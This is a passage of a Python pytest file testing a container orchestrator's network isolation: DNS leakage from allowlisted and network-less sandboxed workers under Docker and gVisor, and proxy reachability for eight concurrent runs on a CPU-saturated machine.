        time.sleep(0.5)  # what is still on its way
        self._stop.set()
        self._thread.join(5)
        self._sock.close()
        return self.counts


@docker
@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_no_dns_query_leaves_an_allowlisted_worker_s_namespace(
    engine, internet, project, isolation
):
    """An allowlisted worker looks an outside name up (the C library, and UDP and TCP
    straight to the engine's DNS at 127.0.0.11): no packet to or from port 53 crosses its
    network's bridge on the host, while its datagram to the gateway does (the counter
    sees what leaves), its proxy's name still resolves and fetching through it works."""
    import hashlib

    if isolation == "gvisor":
        require_gvisor(engine)
    assert os.geteuid() == 0, "counting packets on the bridge needs root"
    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(["allowed.test"])))
    project.isolation = isolation
    meet = project.zone("meet", "rw")
    command = json.dumps(["python3", "-c", DNS_PROBE])
    project.worker(
        "dns",
        f"command: {command}\ntrust: session\nnetwork: {{allow: [allowed.test]}}\n"
        "sandbox: {zones: [{name: meet, mode: rw}]}",
    )
    run = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "run", "dns", "--project", str(project.root)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    counter = None
    try:
        assert wait_until(lambda: (meet / "ready.json").exists(), 120), run.poll()
        run_id = json.loads((meet / "ready.json").read_text())["run"]
        network = f"{RUN_PREFIX}{run_id}"
        bridge = eg.BRIDGE_PREFIX + hashlib.sha256(network.encode()).hexdigest()[:11]
        counter = PortCounter(bridge, (53, 9))
        (meet / "go").touch()
        out, err = run.communicate(timeout=120)
    finally:
        if run.poll() is None:
            run.kill()
            run.communicate()
        counts = counter.stop() if counter is not None else {}
    assert run.returncode == 0, err
    seen = last_json(out)
    assert seen["resolv"] == ["nameserver", "127.0.0.11", "options", "ndots:0"], seen
    assert seen["lookup"] == "failed", seen
    assert not seen["udp"].endswith(" 1 answers") and not seen["tcp"].endswith(" 1 answers")
    assert seen["fetch"] == 200 and seen["proxy"].count(".") == 3, seen
    assert counts[9] >= 3, counts  # the worker's own datagrams were seen leaving
    assert counts[53] == 0, (counts, seen)


@docker
@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_a_worker_without_network_has_no_resolver(engine, project, isolation):
    """A worker with network none has only loopback and no resolver: a lookup fails at
    once (the host's resolver was named in its resolv.conf before)."""
    if isolation == "gvisor":
        require_gvisor(engine)
    project.isolation = isolation
    meet = project.zone("meet", "rw")
    (meet / "go").touch()
    command = json.dumps(["python3", "-c", DNS_PROBE])
    project.worker(
        "closed",
        f"command: {command}\ntrust: session\nsandbox: {{zones: [{{name: meet, mode: rw}}]}}",
    )
    result = cli("run", "closed", "--project", str(project.root), "--json")
    assert result.returncode == 0, result.stderr
    seen = last_json(result.json()["stdout"])
    words = seen["resolv"]
    servers = {after for before, after in itertools.pairwise(words) if before == "nameserver"}
    assert servers <= {"0.0.0.0"}, seen  # none, or "this host" (gVisor writes none)
    assert seen["nets"] == ["lo"], seen
    assert seen["lookup"] == "failed" and seen["lookup_s"] < 3, seen
    assert seen["udp"] != "rcode 0, 1 answers" and seen["tcp"] != "rcode 0, 1 answers"


# -- allowlisted runs on a saturated machine -------------------------------------------------

#: Fetch the allowed server through the proxy five times; say each answer and /etc/hosts'
#: line for the proxy (the worker finds it there, without the engine's DNS).
LOADED_FETCH = r"""
import json, urllib.request
answers = []
for _ in range(5):
    try:
        with urllib.request.urlopen("http://allowed.test/", timeout=60) as response:
            answers.append(response.status)
    except Exception as exc:
        answers.append(f"{type(exc).__name__}: {exc}")
hosts = [line.split() for line in open("/etc/hosts") if "proxy" in line.split()[1:]]
print(json.dumps({"answers": answers, "hosts": hosts}))
"""


@docker
def test_eight_allowlisted_runs_at_once_on_a_saturated_machine_each_get_their_answers(
    engine, internet, project
):
    """Eight allowlisted gVisor runs started at once while CPU hogs (more than the
    machine's cores) keep it saturated: every request of every run is answered through
    its proxy, which each worker finds in its /etc/hosts (the engine's DNS failed to
    answer in time on a loaded machine: "Temporary failure in name resolution")."""
    require_gvisor(engine)
    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(["allowed.test"])))
    command = json.dumps(["python3", "-c", LOADED_FETCH])
    project.worker("loaded", f"command: {command}\nnetwork: {{allow: [allowed.test]}}")
    hogs = [
        subprocess.Popen([sys.executable, "-c", "while 1: pass"])
        for _ in range(2 * (os.cpu_count() or 2))
    ]
    runs = []
    try:
        runs = [
            subprocess.Popen(
                [
                    sys.executable,
                    "-m",
                    "orchestrator",
                    "run",
                    "loaded",
                    "--json",
                    "--project",
                    str(project.root),
                ],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for _ in range(8)
        ]
        done = [run.communicate(timeout=600) for run in runs]
    finally:
        for process in [*hogs, *runs]:
            if process.poll() is None:
                process.kill()
                process.communicate()
    for run, (out, err) in zip(runs, done, strict=True):
        assert run.returncode == 0, err
        seen = last_json(json.loads(out)["stdout"])
        assert seen["answers"] == [200] * 5, seen
        [[address, *names]] = seen["hosts"]
        assert "proxy" in names and ipaddress.ip_address(address).version == 4, seen
